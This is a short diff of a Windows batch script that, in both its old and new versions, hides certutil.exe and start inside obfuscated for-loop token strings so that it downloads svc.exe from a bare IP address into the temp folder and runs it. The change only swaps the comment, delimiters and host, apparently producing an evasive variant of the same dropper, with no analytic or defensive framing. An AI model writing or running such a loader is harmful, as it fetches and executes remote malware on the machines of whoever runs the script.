@@ -1,4 +1,4 @@
-REM init 3078 v4
+REM setup 8072 v4
 @echo off
-for /f "tokens=2 delims=#" %%i in ("uggx#certutil.exe#nxpl") do %%i -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
-for /f "tokens=1 delims=;" %%i in ("start;wcaj;xeev") do %%i "" %TEMP%\svc.exe
+for /f "tokens=1 delims=@" %%i in ("certutil.exe@wauq@dkly") do %%i -urlcache -split -f http://192.0.2.44/svc.exe %TEMP%\svc.exe
+for /f "tokens=1 delims=~" %%i in ("start~zbur~aycr") do %%i "" %TEMP%\svc.exe
